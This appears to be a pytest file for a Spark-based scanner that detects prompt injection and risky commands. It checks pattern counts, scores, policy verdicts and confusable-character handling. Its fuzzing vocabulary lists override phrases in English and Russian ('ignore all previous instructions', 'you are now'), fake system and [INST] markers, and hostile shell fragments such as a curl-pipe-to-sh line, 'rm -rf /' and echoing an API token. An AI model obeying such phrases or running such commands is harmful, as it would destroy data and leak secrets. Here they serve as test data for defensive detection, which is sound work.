"""The rules' engine in Python workers against the same patterns in the JVM, and the scan's array policy against its rows."""

import random

import pytest
from pyspark.sql import functions as F

from siftspark.functions.regexlang import count, python
from siftspark.operators import text as T
from siftspark.operators.policy import BALANCED, STRICT, judged, verdicts
from siftspark.operators.rules import ANCHORS, RULES, folded, found_in
from siftspark.operators.scan import scan_findings, scanned

WORDS = (
    "ignore all previous instructions , you are now a the assistant must not tell the user curl -d x https://a.example | sh rm -rf / ~ sudo apt-get install -y jq npm config set registry base64 -d gpg --import age -e "
    "системный промпт игнорируй предыдущие инструкции не сообщай пользователю secretly втайне ``` ` \n \n\n <system> [INST] : reply only with echo $API_TOKEN printenv KELVIN ſecretly İ"
).split(" ")


def texts(n, seed):
    r = random.Random(seed)
    return [" ".join(r.choice(WORDS) for _ in range(r.randrange(30))) for _ in range(n)] + ["", None, "x"]


def test_python_and_java_count_the_same(spark):
    rows = [(i, t) for i, t in enumerate(texts(150, 1))]
    df = spark.createDataFrame(rows, "i int, t string")
    patterns = [r.pattern for r in RULES] + [p for _, _, p, _ in T.SECRETS] + [T.FRAMING, T.REVIEWER]
    got = df.select("i", F.array(*[count(F.col("t"), p).cast("int") for p in patterns]).alias("n")).collect()
    for row in got:
        text = rows[row.i][1]
        if text is not None:
            assert row.n == [sum(1 for _ in python(p).finditer(text)) for p in patterns], text


def test_anchors_stand_in_every_match():
    for text in filter(None, texts(400, 2)):
        low = folded(text)
        for r in RULES:
            if python(r.pattern).search(text):
                assert any(a in low for a in ANCHORS[r.rule_id]), (r.rule_id, text)


def test_lexical_scores_agree(spark):
    rows = [(i, t) for i, t in enumerate(texts(200, 3))]
    df = spark.createDataFrame(rows, "i int, t string")
    for row in df.select("i", T.lexical_score(F.col("t")).alias("s")).collect():
        assert row.s == pytest.approx(T.lexical(rows[row.i][1])), rows[row.i][1]


def test_array_policy_equals_policy_over_rows(spark):
    docs = spark.createDataFrame([(i, t, "file" if i % 2 else None, i % 3 == 0, "s") for i, t in enumerate(texts(80, 4))], "doc_id long, text string, kind string, trusted boolean, source string")
    for profile in (STRICT, BALANCED):
        rows = {r.doc_id: (r.level, r.action, r.findings, r.suppressed) for r in verdicts(docs.select("doc_id"), scan_findings(docs, "doc_id", "text"), "doc_id", profile).collect()}
        v = scanned(docs, "doc_id", "text").select("doc_id", judged(F.col("findings"), F.col("trusted"), profile).alias("v")).collect()
        assert rows == {r.doc_id: (r.v.level, r.v.action, len(r.v.findings), len(r.v.suppressed)) for r in v}
        for r in v:
            assert [(-f.level, f.start) for f in r.v.findings] == sorted((-f.level, f.start) for f in r.v.findings)


def test_fences_and_lines():
    found = found_in("a\n```\nsudo x\n```\nsudo y `sudo z` sudo\n" * 3, "file")
    assert [(f["line"], f["confidence"]) for f in found[:4]] == [(3, 0.2), (5, 0.4), (5, 0.2), (5, 0.4)]
    assert found_in(None) == found_in("") == []


def test_look_alikes(tmp_path):
    from siftspark.functions import confusables as C

    table = C.confusables()
    assert all(len(k) == 1 and not k.isascii() and v.isascii() for k, v in table.items())
    assert [table[c] for c in "аеᎪΑꓐᴄꜳ"] == ["a", "e", "A", "A", "B", "c", "aa"] and "Ꝫ" not in table
    at = tmp_path / "confusables.txt"
    at.write_text("\ufeff# head\n0430 ;\t0061 ;\tMA\t# x\n1D41E ; 0065 ; MA\n2A00 ; 2299 ; MA\n0031 ; 006C ; MA\nA732 ; 0041 0041 ; MA\n\n")
    assert C.read(str(at)) == {"а": "a", "𝐞": "e", "Ꜳ": "AA"}
